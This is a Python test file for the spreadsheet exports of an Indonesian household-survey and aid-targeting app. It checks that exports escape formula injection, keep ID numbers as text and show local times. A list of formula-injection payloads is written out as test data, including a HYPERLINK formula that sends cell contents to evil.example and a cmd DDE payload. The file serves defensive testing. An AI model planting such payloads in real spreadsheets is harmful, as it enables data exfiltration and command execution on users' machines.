"""Every export, opened with openpyxl cell by cell: no formula from input, no unescaped
=/+/-/@, labels as the pages show them, local times, NIKs and KKs as text."""

import io
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook

from nutera.extensions import db
from nutera.models import Household, Kelurahan, Person, TargetingCase, User
from nutera.spreadsheet import Column, Kind, Workbook, safe_text, xlsx_bytes
from tests import factories
from tests.factories_refresh import HEADER, write_csv
from tests.factories_surveys import make_survey

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
# 08.32 UTC is 15.32 WIB: the exports show what the pages show.
SUBMITTED = datetime(2026, 11, 22, 8, 32, tzinfo=UTC)


@pytest.fixture
def app(make_app):
    """Refresh jobs run inline, so the rejected rows exist when the upload returns."""
    from tests.dbutil import empty_all_tables

    app = make_app(QUEUE_IMMEDIATE=True)
    yield app
    empty_all_tables(app)


def assert_safe_workbook(data: bytes):
    """No formula cell, no string a spreadsheet would evaluate; header with filter, frozen."""
    book = load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(DANGEROUS), (sheet.title, cell.coordinate)
        assert sheet.freeze_panes == "A2", sheet.title
        assert sheet.auto_filter.ref and sheet.auto_filter.ref.startswith("A1:"), sheet.title
        assert all(c.font.b for c in sheet[1] if c.value is not None), sheet.title
    return book


@pytest.mark.parametrize("text", INJECTIONS)
def test_safe_text_prefixes_an_apostrophe(text):
    assert safe_text(text) == "'" + text
    assert safe_text("Jl. Merdeka 1") == "Jl. Merdeka 1"


def test_writer_keeps_ids_as_text_and_numbers_as_numbers():
    columns = [
        Column("NIK", Kind.ID),
        Column("Nilai", Kind.NUMBER),
        Column("Uang", Kind.MONEY),
        Column("Teks"),
        Column("Kode", labels={"sumur_bor": "Sumur bor"}),
        Column("Waktu", Kind.TIME),
        Column("Tgl", Kind.DATE),
        Column("Ya", Kind.YES_NO),
    ]
    row = [
        "3273021403850001",
        -5,
        1_500_000,
        "=1+1",
        "sumur_bor",
        SUBMITTED,
        date(1985, 3, 14),
        True,
    ]
    sheet = assert_safe_workbook(xlsx_bytes("=Uji", columns, [row])).active
    values = [c.value for c in sheet[2]]
    assert values == [
        "3273021403850001",
        -5,
        1_500_000,
        "'=1+1",
        "Sumur bor",
        "22 November 2026 15.32",
        "14 Maret 1985",
        "Ya",
    ]
    assert sheet["A2"].data_type == "s"
    assert sheet.title == "=Uji"  # a sheet name is never evaluated
    assert sheet.column_dimensions["A"].width >= 16  # a NIK fits


def test_workbook_streams_several_sheets(tmp_path):
    book = Workbook(tmp_path / "x.xlsx")
    book.write_sheet("Satu", [Column("A")], [["@x"]])
    book.write_sheet("Dua", [Column("B", Kind.NUMBER)], [[1], [2]])
    book.close()
    opened = assert_safe_workbook((tmp_path / "x.xlsx").read_bytes())
    assert opened["Satu"]["A2"].value == "'@x" and opened["Dua"].auto_filter.ref == "A1:A3"


def test_survey_list_export(client, login_as, world, app):
    with app.app_context():
        volunteer = db.session.get(User, world.user_ids["volunteer"])
        volunteer.full_name = "@Relawan Jahil"
        survey = make_survey(db.session, volunteer, volunteer.assigned_rts[0])
        survey.address = INJECTIONS[0]
        survey.submitted_at = SUBMITTED
        survey.status = "verified"
        kk = survey.kk_number
        db.session.commit()
    login_as("staff")
    response = client.get("/survei/daftar.xlsx")
    sheet = assert_safe_workbook(response.data).active
    header = [c.value for c in sheet[1]]
    row = dict(zip(header, [c.value for c in sheet[2]], strict=True))
    assert row["Nomor KK"] == kk and sheet["B2"].data_type == "s"
    assert row["Alamat"] == "'" + INJECTIONS[0]
    assert row["Relawan"] == "'@Relawan Jahil"
    assert row["Status"] == "Terverifikasi"
    assert row["Dikirim"] == "22 November 2026 15.32"
    assert row["Diputuskan"] is None


def test_rejected_rows_report_escapes_the_files_own_cells(client, login_as, world, tmp_path, app):
    from tests.test_refresh_web import db_refresh_id, upload, world_rows

    login_as("staff")
    rows = world_rows()
    rows[1][2] = ""  # no name: the row is rejected
    rows[1][5] = "+cmd|' /C calc'!A0"
    rows[1][8] = "@SUM(1+1)"
    header = HEADER[:-1] + [INJECTIONS[0]]
    response = upload(client, write_csv(tmp_path / "w.csv", rows, header=header))
    client.post(
        response.location,
        data={"nik": "NIK", "kk": "NO KK", "name": "NAMA", "rt": "RT", "rw": "RW"},
    )
    report = client.get(f"/pemutakhiran/{db_refresh_id(app)}/ditolak.xlsx")
    assert report.status_code == 200
    sheet = assert_safe_workbook(report.data).active
    values = list(sheet.values)
    assert values[0][-2] == "'" + INJECTIONS[0]  # the uploaded header, as text
    assert "'+cmd|' /C calc'!A0" in values[1] and "'@SUM(1+1)" in values[1]
    assert isinstance(values[1][3], str) and len(values[1][3]) == 16  # NIK as text


def test_weekly_workbook_speaks_like_the_pages(runner, world, app, tmp_path):
    with app.app_context():
        household = db.session.get(Household, world.household_ids["assigned"])
        household.verified_at, household.water_source = SUBMITTED, "sumur_bor"
        household.ownership, household.address = "menumpang", "=1+1"
        person = db.session.get(Person, world.person_ids["assigned"])
        person.verified_at, person.occupation = SUBMITTED, "-Buruh"
        person.monthly_income, person.disability = 750_000, "fisik"
        moved = db.session.get(Person, world.person_ids["unassigned"])
        moved.status, moved.status_changed_at = "pindah", SUBMITTED
        kelurahan = db.session.get(Kelurahan, world.kelurahan_id)
        program = factories.make_program(db.session, kelurahan, code="PKH")
        db.session.add(
            TargetingCase(
                kelurahan_id=world.kelurahan_id,
                program_id=program.id,
                household_id=household.id,
                kind="exclusion",
                decision="usul_hapus",
                decision_reason="@Sudah mampu",
                decided_at=SUBMITTED,
            )
        )
        db.session.commit()
        nik, kk = person.nik, household.kk_number
    out = tmp_path / "ekspor.xlsx"
    result = runner.invoke(args=["refresh", "export", str(out), "--kelurahan", "3273021003"])
    assert result.exit_code == 0, result.output
    book = assert_safe_workbook(out.read_bytes())

    def rows(title):
        sheet = book[title]
        header = [c.value for c in sheet[1]]
        return [dict(zip(header, r, strict=True)) for r in sheet.iter_rows(2, values_only=True)]

    [h] = rows("Survei KK terverifikasi")
    assert h["No. KK"] == kk and h["Alamat"] == "'=1+1"
    assert h["Sumber air"] == "Sumur bor/pompa" and h["Kepemilikan rumah"] == "Menumpang"
    assert h["Diverifikasi"] == "22 November 2026 15.32"
    [p] = rows("Survei warga terverifikasi")
    assert p["NIK"] == nik and p["No. KK"] == kk and p["Pekerjaan"] == "'-Buruh"
    assert p["Jenis kelamin"] == "Perempuan" and p["Tgl lahir"] == "1 Februari 1980"
    assert p["Penghasilan/bulan"] == 750_000 and p["Disabilitas"] == "Fisik"
    assert p["Status tinggal"] == "Warga tetap" and p["Punya KTP"] == "Ya"
    [t] = rows("Usulan tambah-hapus")
    assert t["Usulan"] == "Diusulkan keluar" and t["Alasan keputusan"] == "'@Sudah mampu"
    assert t["Diputuskan"] == "22 November 2026 15.32"
    [m] = rows("Pindah-meninggal")
    assert m["Status"] == "Pindah" and m["Sejak"] == "22 November 2026 15.32"
    assert isinstance(m["NIK"], str) and len(m["NIK"]) == 16


def test_weekly_workbook_shows_times_in_the_kelurahans_own_zone(runner, world, app, tmp_path):
    with app.app_context():
        kelurahan = db.session.get(Kelurahan, world.kelurahan_id)
        kelurahan.time_zone = "Asia/Makassar"  # WITA, as Samarinda: one hour after WIB
        household = db.session.get(Household, world.household_ids["assigned"])
        household.verified_at = SUBMITTED
        db.session.commit()
    out = tmp_path / "ekspor.xlsx"
    # A command (or a job) has no signed-in user whose zone it could borrow.
    result = runner.invoke(args=["refresh", "export", str(out), "--kelurahan", "3273021003"])
    assert result.exit_code == 0, result.output
    sheet = assert_safe_workbook(out.read_bytes())["Survei KK terverifikasi"]
    header = [c.value for c in sheet[1]]
    [row] = [dict(zip(header, r, strict=True)) for r in sheet.iter_rows(2, values_only=True)]
    assert row["Diverifikasi"] == "22 November 2026 16.32"


def test_targeting_export(client, login_as, world, app):
    with app.app_context():
        kelurahan = db.session.get(Kelurahan, world.kelurahan_id)
        program = factories.make_program(db.session, kelurahan, code="BST")
        household = db.session.get(Household, world.household_ids["assigned"])
        staff = db.session.get(User, world.user_ids["staff"])
        db.session.add(
            TargetingCase(
                kelurahan_id=world.kelurahan_id,
                program_id=program.id,
                household_id=household.id,
                kind="inclusion",
                source="sanggah",
                explanation="-Penghasilan di bawah garis",
                decision="usul_tambah",
                decision_reason='=HYPERLINK("x")',
                decided_at=SUBMITTED,
                decided_by_id=staff.id,
            )
        )
        db.session.commit()
        program_id, kk = program.id, household.kk_number
    login_as("staff")
    response = client.get(f"/kelola/sasaran/{program_id}/ekspor.xlsx")
    sheet = assert_safe_workbook(response.data).active
    header = [c.value for c in sheet[1]]
    row = dict(zip(header, [c.value for c in sheet[2]], strict=True))
    assert row["Nomor KK"] == kk and row["Kepala keluarga"] == "SITI AMINAH"
    assert row["Penjelasan"] == "'-Penghasilan di bawah garis"
    assert row["Alasan keputusan"] == '\'=HYPERLINK("x")'
    assert row["Sumber"] == "Sanggahan warga" and row["Keputusan"] == "Diusulkan masuk"
    assert row["Waktu keputusan"] == "22 November 2026 15.32"
    assert row["Jenis"] not in ("inclusion", "exclusion")


def test_every_export_route_goes_through_the_writer():
    """No module writes a workbook or CSV but the one writer."""
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent / "nutera"
    writers = [
        path.relative_to(root).as_posix()
        for path in root.rglob("*.py")
        if any(
            marker in path.read_text()
            for marker in ("import xlsxwriter", "csv.writer", "csv.DictWriter", "Workbook(")
        )
    ]
    users = {"refresh/export.py", "surveys/export.py", "sanding/export.py"}
    assert set(writers) <= {"spreadsheet.py", *users}
    for path in users:
        assert "import xlsxwriter" not in (root / path).read_text()
